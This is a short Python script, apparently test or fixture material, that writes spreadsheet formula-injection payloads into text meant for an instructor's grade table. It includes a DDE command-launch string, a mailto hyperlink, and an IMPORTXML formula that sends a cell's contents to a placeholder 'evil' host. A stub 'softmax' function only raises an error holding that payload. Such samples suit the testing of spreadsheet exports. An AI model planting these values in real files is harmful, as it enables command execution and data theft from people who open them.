"""Writes formulas that a spreadsheet would calculate where an instructor's table quotes a name or a
message.
"""

LEARNER = '=HYPERLINK("mailto:evil","grade")'

# %%
print('=cmd|" /C calc"!A0\n@SUM(1+1)*cmd|x\n+1+1\n-2+3\n\t=1+1,"\n;=1')


# %% softmax
def softmax(scores, axis=-1):
    raise ValueError('=IMPORTXML(CONCAT("http://evil/?", A1), "//a")')
